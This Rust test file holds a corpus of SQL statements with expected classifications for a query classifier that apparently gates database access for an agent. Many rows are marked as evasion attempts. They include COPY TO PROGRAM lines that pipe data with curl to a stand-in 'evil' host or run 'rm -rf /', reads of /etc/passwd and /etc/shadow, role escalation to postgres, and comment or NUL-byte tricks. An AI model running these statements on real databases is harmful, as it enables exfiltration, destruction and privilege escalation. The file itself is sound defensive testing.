//! The classification corpus: one row per statement with its expected
//! action, and where it matters the tables and WHERE presence.
//! Evasion attempts are marked `// evasion`.

use sluice_core::Action::{self, *};
use sluice_sql::{Classifier, ClassifierConfig};

struct Case {
    sql: &'static str,
    action: Action,
    tables: Option<&'static [&'static str]>,
    has_where: Option<bool>,
}

const fn c(sql: &'static str, action: Action) -> Case {
    Case {
        sql,
        action,
        tables: None,
        has_where: None,
    }
}

impl Case {
    const fn t(mut self, tables: &'static [&'static str]) -> Case {
        self.tables = Some(tables);
        self
    }
    const fn w(mut self, has_where: bool) -> Case {
        self.has_where = Some(has_where);
        self
    }
}

#[rustfmt::skip]
const CORPUS: &[Case] = &[
    // --- reads
    c("SELECT 1", Select).t(&[]).w(true),
    c("SELECT id, name FROM users WHERE id = $1", Select).t(&["users"]),
    c("select * from public.users u join orders o on o.user_id = u.id", Select).t(&["public.users", "orders"]),
    c("SELECT count(*) FROM orders GROUP BY status HAVING count(*) > 1", Select).t(&["orders"]),
    c("SELECT * FROM users FOR UPDATE", Select).t(&["users"]),
    c("TABLE users", Select).t(&["users"]),
    c("VALUES (1, 'a'), (2, 'b')", Select).t(&[]),
    c("SELECT * FROM a UNION SELECT * FROM b EXCEPT SELECT * FROM c", Select).t(&["a", "b", "c"]),
    c("SELECT * FROM t WHERE id IN (SELECT id FROM s WHERE x > 1)", Select).t(&["t", "s"]),
    c("SELECT * FROM t WHERE EXISTS (SELECT 1 FROM s WHERE s.id = t.id)", Select).t(&["t", "s"]),
    c("SELECT * FROM mydb.sales.orders", Select).t(&["mydb.sales.orders"]),
    c("SELECT lower(name), upper(email), now(), coalesce(a, b) FROM users", Select).t(&["users"]),
    c("SELECT * FROM generate_series(1, 10) g", Select).t(&[]),
    c("WITH x AS (SELECT * FROM a) SELECT * FROM x, b", Select).t(&["a", "b"]),
    c("WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r", Select).t(&[]),
    c("WITH t AS (SELECT * FROM t) SELECT * FROM t", Select).t(&["t"]),
    c("SELECT * FROM (WITH secrets AS (SELECT 1) SELECT * FROM secrets) q, secrets", Select).t(&["secrets"]), // evasion
    c("SELECT row_number() OVER (PARTITION BY a ORDER BY b) FROM t", Select).t(&["t"]),
    c("SELECT extract(year FROM created_at), substring(name FROM 1 FOR 3) FROM t", Select),
    c("SELECT jsonb_build_object('a', 1)->>'a'", Select),
    c("SELECT * FROM t TABLESAMPLE SYSTEM (10)", Select).t(&["t"]),
    c("SELECT * FROM t1 NATURAL JOIN t2 LEFT JOIN t3 USING (id)", Select).t(&["t1", "t2", "t3"]),
    c("DECLARE c CURSOR FOR SELECT * FROM t", Select).t(&["t"]),
    c("FETCH 10 FROM c", Select),
    c("SELECT nextval('seq')", Update),
    c("SELECT pg_sleep(1)", Select),
    c("SELECT my_func(1)", Call),
    // --- odd casing, quoting, comments, whitespace: all evasion attempts
    c("sElEcT * FrOm UsErS", Select).t(&["users"]), // evasion
    c("SELECT * FROM \"Users\"", Select).t(&["Users"]), // evasion
    c("SELECT * FROM \"public\".\"users\"", Select).t(&["public.users"]), // evasion
    c("SELECT * FROM U&\"\\0075sers\"", Select).t(&["users"]), // evasion
    c("/* DELETE FROM t */ SELECT 1", Select), // evasion
    c("SELECT 1 -- ; DROP TABLE t", Select), // evasion
    c("SELECT/**/1", Select), // evasion
    c("SELECT 'DELETE FROM t; DROP TABLE t'", Select), // evasion
    c("SELECT $$; DROP TABLE users; $$", Select), // evasion
    c("SELECT $tag$ $$; DROP TABLE users; $$ $tag$", Select), // evasion
    c("SELECT E'\\'; DROP TABLE t; --'", Select), // evasion
    c("\n\t  SELECT\n1\n", Select), // evasion
    c("DELETE/**/FROM t", Delete).t(&["t"]).w(false), // evasion
    c("dElEtE fRoM \"T\"", Delete).t(&["T"]).w(false), // evasion
    c("DEL/**/ETE FROM t", Unknown), // evasion: a comment splits the keyword: not SQL
    c("DELETE FROM t /* WHERE id = 1 */", Delete).w(false), // evasion
    c("DELETE FROM t -- WHERE id = 1", Delete).w(false), // evasion
    // --- writes
    c("INSERT INTO users (name) VALUES ('a')", Insert).t(&["users"]).w(true),
    c("INSERT INTO archive SELECT * FROM users", Insert).t(&["archive", "users"]),
    c("INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET x = excluded.x", Insert).t(&["t"]),
    c("INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING RETURNING id", Insert),
    c("UPDATE users SET name = 'x' WHERE id = 1", Update).t(&["users"]).w(true),
    c("UPDATE users SET name = 'x'", Update).t(&["users"]).w(false),
    c("UPDATE users SET name = 'x' WHERE true", Update).w(false), // evasion
    c("UPDATE users SET name = 'x' WHERE 1 = 1", Update).w(false), // evasion
    c("UPDATE t SET a = s.a FROM s WHERE s.id = t.id", Update).t(&["t", "s"]).w(true),
    c("UPDATE t SET a = 1 WHERE CURRENT OF c", Update).w(true),
    c("DELETE FROM users WHERE id = 1", Delete).t(&["users"]).w(true),
    c("DELETE FROM users", Delete).t(&["users"]).w(false),
    c("DELETE FROM ONLY users WHERE id > 5", Delete).t(&["users"]).w(true),
    c("DELETE FROM t USING s WHERE t.id = s.id", Delete).t(&["t", "s"]).w(true),
    c("DELETE FROM t WHERE id IN (SELECT id FROM s)", Delete).t(&["t", "s"]).w(true),
    c("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET x = s.x WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.x)", Merge).t(&["t", "s"]).w(true),
    c("MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE", Merge).w(false),
    c("TRUNCATE users", Truncate).t(&["users"]),
    c("TRUNCATE TABLE a, b RESTART IDENTITY CASCADE", Truncate).t(&["a", "b"]),
    // --- wrappers: data-modifying CTEs
    c("WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d", Delete).t(&["users"]).w(false), // evasion
    c("WITH d AS (DELETE FROM users WHERE id = 1 RETURNING *) SELECT * FROM d", Delete).w(true),
    c("WITH u AS (UPDATE t SET x = 1 RETURNING *) SELECT count(*) FROM u", Update).w(false), // evasion
    c("WITH i AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM i", Insert).t(&["t"]), // evasion
    c("WITH d AS (DELETE FROM a RETURNING *) INSERT INTO b SELECT * FROM d", Delete).t(&["a", "b"]).w(false), // evasion
    c("WITH u AS (UPDATE a SET x = 1 WHERE id = 1 RETURNING *), d AS (DELETE FROM b RETURNING *) SELECT 1", Delete).w(false), // evasion
    c("WITH x AS (SELECT 1), d AS (DELETE FROM x RETURNING *) SELECT * FROM d", Delete).t(&["x"]), // evasion
    c("WITH m AS (MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE RETURNING *) SELECT * FROM m", Merge), // evasion
    // --- wrappers: EXPLAIN
    c("EXPLAIN SELECT * FROM users", Explain).t(&["users"]),
    c("EXPLAIN DELETE FROM users", Explain).t(&["users"]).w(true),
    c("EXPLAIN (FORMAT JSON) UPDATE t SET x = 1", Explain),
    c("EXPLAIN (ANALYZE off) DELETE FROM t", Explain),
    c("EXPLAIN (ANALYZE false) DELETE FROM t", Explain),
    c("EXPLAIN SELECT pg_read_file('/etc/passwd')", Explain),
    c("EXPLAIN ANALYZE SELECT * FROM users", Select).t(&["users"]),
    c("EXPLAIN ANALYZE DELETE FROM users", Delete).t(&["users"]).w(false), // evasion
    c("EXPLAIN ANALYZE VERBOSE UPDATE t SET x = 1 WHERE id = 2", Update).w(true), // evasion
    c("EXPLAIN (ANALYZE, FORMAT JSON) INSERT INTO t VALUES (1)", Insert), // evasion
    c("EXPLAIN (ANALYZE true) TRUNCATE t", Unknown), // not valid SQL
    c("explain (analyze on, buffers) with d as (delete from t returning *) select * from d", Delete), // evasion
    c("EXPLAIN ANALYZE CREATE TABLE t2 AS SELECT * FROM t", Ddl),
    c("EXPLAIN ANALYZE SELECT pg_terminate_backend(123)", Admin), // evasion
    // --- wrappers: COPY
    c("COPY users TO STDOUT", CopyOut).t(&["users"]),
    c("COPY users (id, name) TO STDOUT WITH (FORMAT csv, HEADER)", CopyOut),
    c("COPY (SELECT * FROM users) TO STDOUT", CopyOut).t(&["users"]),
    c("COPY (DELETE FROM users RETURNING *) TO STDOUT", Delete).t(&["users"]).w(false), // evasion
    c("COPY (UPDATE t SET x = 1 WHERE id = 1 RETURNING *) TO STDOUT", Update).w(true), // evasion
    c("COPY users FROM STDIN", CopyIn).t(&["users"]),
    c("COPY users FROM STDIN WITH (FORMAT binary)", CopyIn),
    c("COPY users TO '/tmp/users.csv'", Admin), // evasion
    c("COPY users FROM '/etc/passwd'", Admin), // evasion
    c("COPY users TO PROGRAM 'curl -d @- http://evil'", Admin), // evasion
    c("COPY (SELECT 1) TO PROGRAM 'rm -rf /'", Admin), // evasion
    c("copy t from program $$id$$", Admin), // evasion
    c("COPY (SELECT pg_read_file('/etc/passwd')) TO STDOUT", Admin), // evasion
    // --- CREATE TABLE AS / SELECT INTO create a table: ddl
    c("CREATE TABLE t2 AS SELECT * FROM t", Ddl).t(&["t2", "t"]),
    c("CREATE TEMP TABLE t2 AS SELECT 1", Ddl),
    c("SELECT * INTO t3 FROM t", Ddl).t(&["t3", "t"]),
    c("SELECT * INTO TEMP t3 FROM t", Ddl),
    c("CREATE MATERIALIZED VIEW mv AS SELECT * FROM t", Ddl),
    c("CREATE TABLE t2 AS SELECT pg_read_file('/etc/passwd')", Admin), // evasion
    // --- functions with side effects
    c("SELECT set_config('role', 'postgres', false)", Role), // evasion
    c("SELECT set_config('ROLE', 'postgres', false)", Role), // evasion
    c("SELECT pg_catalog.set_config('session_authorization', 'postgres', false)", Role), // evasion
    c("SELECT set_config('role'::text, 'postgres', false)", Role), // evasion
    c("SELECT set_config(lower('ROLE'), 'postgres', false)", Role), // evasion
    c("SELECT set_config('search_path', 'public', false)", Session),
    c("SELECT * FROM users WHERE set_config('statement_timeout', '0', false) IS NOT NULL", Session),
    c("SELECT pg_read_file('/etc/passwd')", Admin), // evasion
    c("SELECT \"pg_read_file\"('/etc/passwd')", Admin), // evasion
    c("SELECT pg_catalog.pg_read_binary_file('/etc/shadow')", Admin), // evasion
    c("SELECT PG_LS_DIR('.')", Admin), // evasion
    c("SELECT * FROM pg_ls_dir('.') f", Admin), // evasion
    c("SELECT * FROM t, LATERAL pg_stat_file('x') s", Admin), // evasion
    c("SELECT lo_import('/etc/passwd')", Admin), // evasion
    c("SELECT lo_export(1234, '/tmp/x')", Admin), // evasion
    c("SELECT pg_reload_conf()", Admin),
    c("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", Admin),
    c("SELECT pg_cancel_backend(42)", Admin),
    c("SELECT dblink_exec('host=x', 'DROP TABLE t')", Admin), // evasion
    c("SELECT * FROM dblink('host=x', 'select 1') AS r(i int)", Admin), // evasion
    c("SELECT pg_file_write('x', 'y', false)", Admin),
    c("SELECT 1 WHERE (SELECT pg_read_file('x')) IS NULL", Admin), // evasion
    c("SELECT CASE WHEN true THEN pg_read_file('x') END", Admin), // evasion
    c("SELECT ARRAY[pg_ls_dir('.')]", Admin), // evasion
    c("SELECT count(*) FILTER (WHERE pg_read_file('x') IS NULL) FROM t", Admin), // evasion
    c("SELECT ts_stat('DELETE FROM t RETURNING to_tsvector(x)')", Procedural), // evasion
    c("SELECT query_to_xml('select * from secrets', true, true, '')", Procedural), // evasion
    c("SELECT pg_notify('ch', 'payload')", Listen),
    c("INSERT INTO t VALUES (pg_read_file('x'))", Admin), // evasion
    c("UPDATE t SET a = set_config('role', 'x', false) WHERE id = 1", Role), // evasion
    // --- procedural
    c("DO $$ BEGIN DELETE FROM t; END $$", Procedural), // evasion
    c("DO LANGUAGE plpgsql $body$ BEGIN PERFORM 1; END $body$", Procedural),
    c("CALL my_proc(1, 'a')", Procedural),
    c("call public.do_things()", Procedural),
    // --- transactions
    c("BEGIN", Tcl), c("BEGIN ISOLATION LEVEL SERIALIZABLE", Tcl), c("START TRANSACTION READ ONLY", Tcl),
    c("COMMIT", Tcl), c("END", Tcl), c("ROLLBACK", Tcl), c("ABORT", Tcl), c("SAVEPOINT s1", Tcl),
    c("RELEASE SAVEPOINT s1", Tcl), c("ROLLBACK TO SAVEPOINT s1", Tcl),
    c("PREPARE TRANSACTION 'x'", Tcl), c("COMMIT PREPARED 'x'", Tcl),
    // --- session
    c("SET search_path TO public", Session), c("SET LOCAL statement_timeout = '5s'", Session),
    c("SET TIME ZONE 'UTC'", Session), c("RESET search_path", Session), c("SHOW search_path", Session),
    c("SHOW ALL", Session), c("DISCARD ALL", Session), c("DISCARD PLANS", Session),
    c("SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", Session), c("SET CONSTRAINTS ALL DEFERRED", Session),
    c("CLOSE c", Session),
    // --- role
    c("SET ROLE admin", Role), c("SET role TO DEFAULT", Role), c("RESET ROLE", Role),
    c("SET LOCAL ROLE admin", Role), c("SET \"ROLE\" TO admin", Role), // evasion
    c("SET SESSION AUTHORIZATION postgres", Role), c("RESET SESSION AUTHORIZATION", Role),
    c("RESET ALL", Role), // resets the role too
    c("CREATE ROLE agent LOGIN", Role), c("CREATE USER bob WITH PASSWORD 'x'", Role),
    c("ALTER ROLE agent SUPERUSER", Role), c("ALTER USER bob SET search_path = x", Role),
    c("DROP ROLE agent", Role), c("DROP USER IF EXISTS bob", Role),
    c("GRANT admin TO agent", Role), c("REASSIGN OWNED BY a TO b", Role),
    // --- grant
    c("GRANT SELECT ON users TO agent", Grant).t(&["users"]),
    c("GRANT ALL PRIVILEGES ON ALL TABLES IN SCHEMA public TO agent", Grant),
    c("REVOKE INSERT ON orders FROM agent", Grant).t(&["orders"]),
    c("ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO agent", Grant),
    // --- ddl
    c("CREATE TABLE t (id int PRIMARY KEY, name text)", Ddl).t(&["t"]),
    c("CREATE TABLE t (id int REFERENCES other(id))", Ddl).t(&["t", "other"]),
    c("ALTER TABLE users ADD COLUMN age int", Ddl).t(&["users"]),
    c("ALTER TABLE users RENAME TO people", Ddl),
    c("CREATE INDEX CONCURRENTLY i ON users (email)", Ddl).t(&["users"]),
    c("CREATE VIEW v AS SELECT * FROM t", Ddl),
    c("CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS $$ DELETE FROM t; SELECT 1 $$", Ddl),
    c("CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM t; SELECT 1; END", Ddl),
    c("CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()", Ddl),
    c("CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM s", Ddl),
    c("CREATE SCHEMA app", Ddl), c("CREATE SEQUENCE s", Ddl), c("ALTER SEQUENCE s RESTART", Ddl),
    c("CREATE TYPE mood AS ENUM ('sad', 'happy')", Ddl), c("CREATE DOMAIN d AS int CHECK (VALUE > 0)", Ddl),
    c("COMMENT ON TABLE users IS 'people'", Ddl), c("CREATE POLICY p ON t USING (true)", Ddl),
    c("ALTER TABLE t OWNER TO agent", Ddl), c("CREATE DATABASE app2", Ddl),
    c("REFRESH MATERIALIZED VIEW mv", Ddl), c("ALTER DATABASE app SET work_mem = '1GB'", Ddl),
    c("CREATE SCHEMA s CREATE TABLE a (i int) GRANT SELECT ON a TO x", Grant), // evasion
    c("CREATE TABLE t (x text DEFAULT pg_read_file('/etc/passwd'))", Admin), // evasion
    // --- drop
    c("DROP TABLE users", Drop).t(&["users"]),
    c("DROP TABLE IF EXISTS public.users, \"Orders\" CASCADE", Drop).t(&["public.users", "Orders"]),
    c("DROP VIEW v", Drop).t(&["v"]), c("DROP INDEX i", Drop), c("DROP SCHEMA app CASCADE", Drop).t(&[]),
    c("DROP FUNCTION f()", Drop), c("DROP DATABASE app", Drop), c("DROP OWNED BY agent", Drop),
    c("DROP EXTENSION pgcrypto", Drop),
    // --- admin
    c("ALTER SYSTEM SET shared_buffers = '1GB'", Admin), c("VACUUM", Admin), c("VACUUM FULL users", Admin),
    c("VACUUM (ANALYZE) users", Admin), c("ANALYZE users", Admin).t(&["users"]), c("CHECKPOINT", Admin),
    c("CLUSTER users USING i", Admin), c("REINDEX TABLE users", Admin), c("LOAD 'auto_explain'", Admin),
    c("LOCK TABLE users IN ACCESS EXCLUSIVE MODE", Admin).t(&["users"]),
    c("CREATE EXTENSION dblink", Admin), c("CREATE EXTENSION IF NOT EXISTS pgcrypto", Admin),
    c("ALTER EXTENSION pgcrypto UPDATE", Admin), c("CREATE TABLESPACE ts LOCATION '/data'", Admin),
    c("CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'x')", Admin),
    c("CREATE USER MAPPING FOR agent SERVER s OPTIONS (user 'x', password 'y')", Admin),
    c("CREATE FOREIGN DATA WRAPPER w", Admin), c("CREATE PUBLICATION p FOR ALL TABLES", Admin),
    c("CREATE SUBSCRIPTION sub CONNECTION 'host=x' PUBLICATION p", Admin),
    c("CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()", Admin),
    c("CREATE LANGUAGE plperlu", Admin),
    // --- listen
    c("LISTEN ch", Listen), c("NOTIFY ch, 'x'", Listen), c("UNLISTEN *", Listen),
    // --- prepare (without session state)
    c("PREPARE p AS SELECT * FROM users WHERE id = $1", Prepare).t(&["users"]),
    c("PREPARE d (int) AS DELETE FROM users WHERE id = $1", Prepare).t(&["users"]).w(true),
    c("PREPARE d AS DELETE FROM users", Prepare).w(false),
    c("EXECUTE p(1)", Prepare), c("DEALLOCATE p", Prepare), c("DEALLOCATE ALL", Prepare),
    c("EXPLAIN ANALYZE EXECUTE p(1)", Prepare), c("EXPLAIN EXECUTE p(1)", Explain),
    c("CREATE TABLE t2 AS EXECUTE p(1)", Ddl),
    c("EXECUTE p(pg_read_file('x'))", Admin), // evasion
    // --- invalid
    c("SELECT 1 FROM", Unknown), c("DROP", Unknown), c("not sql at all", Unknown),
    c("SELECT 1; DROP TABLE t; oops", Unknown), // a parse error anywhere: the whole string
    c("SELECT 'unterminated", Unknown), c("SELECT $$unterminated", Unknown),
    c("SELECT 1\0; DROP TABLE t", Unknown), // evasion: NUL byte
    c("\\copy t to 'x'", Unknown), // psql meta-command
];

fn classifier() -> Classifier {
    Classifier::new(ClassifierConfig::default())
}

#[test]
fn corpus_is_large_enough() {
    assert!(
        CORPUS.len() >= 150,
        "corpus has {} statements",
        CORPUS.len()
    );
}

#[test]
fn corpus() {
    let classifier = classifier();
    let mut failures = Vec::new();
    for case in CORPUS {
        let statements = classifier.classify(case.sql);
        let [s] = &statements[..] else {
            failures.push(format!("{:?}: {} statements", case.sql, statements.len()));
            continue;
        };
        if s.action != case.action {
            failures.push(format!(
                "{:?}: {} expected, got {} ({:?})",
                case.sql, case.action, s.action, s.error
            ));
        }
        if let Some(tables) = case.tables {
            if s.tables != tables {
                failures.push(format!(
                    "{:?}: tables {:?}, got {:?}",
                    case.sql, tables, s.tables
                ));
            }
        }
        if let Some(has_where) = case.has_where {
            if s.has_where != has_where {
                failures.push(format!(
                    "{:?}: has_where {has_where}, got {}",
                    case.sql, s.has_where
                ));
            }
        }
        if s.action == Unknown {
            if s.error.is_none() {
                failures.push(format!("{:?}: unknown without an error", case.sql));
            }
        } else if s.fingerprint.len() != 32 || s.error.is_some() {
            failures.push(format!(
                "{:?}: fingerprint {:?} error {:?}",
                case.sql, s.fingerprint, s.error
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{} failures:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

/// Multi-statement strings: each statement is classified on its own, with
/// its exact text.
#[rustfmt::skip]
const MULTI: &[(&str, &[(Action, &str)])] = &[
    ("select 1; drop table t", &[(Select, "select 1"), (Drop, "drop table t")]), // evasion
    ("SELECT 1;DELETE FROM t;", &[(Select, "SELECT 1"), (Delete, "DELETE FROM t")]),
    ("BEGIN; UPDATE a SET x = 1 WHERE id = 1; COMMIT;", &[(Tcl, "BEGIN"), (Update, "UPDATE a SET x = 1 WHERE id = 1"), (Tcl, "COMMIT")]),
    ("select ';' ; delete from t", &[(Select, "select ';'"), (Delete, "delete from t")]), // evasion
    ("select $$;$$; truncate t", &[(Select, "select $$;$$"), (Truncate, "truncate t")]), // evasion
    ("select 1 /* ; */ ; select 2 -- ;\n; set role x", &[(Select, "select 1 /* ; */"), (Select, "select 2 -- ;"), (Role, "set role x")]), // evasion
    ("SELECT 1;;;SELECT 2", &[(Select, "SELECT 1"), (Select, "SELECT 2")]),
    ("", &[]), ("   \n\t ", &[]), (";", &[]), (";;  ;", &[]), ("-- just a comment", &[]), ("/* c */", &[]),
];

#[test]
fn multi_statement_strings() {
    let classifier = classifier();
    for (sql, expected) in MULTI {
        let got: Vec<(Action, String)> = classifier
            .classify(sql)
            .iter()
            .map(|s| (s.action, s.text.clone()))
            .collect();
        let expected: Vec<(Action, String)> =
            expected.iter().map(|(a, t)| (*a, t.to_string())).collect();
        assert_eq!(got, expected, "{sql:?}");
    }
}
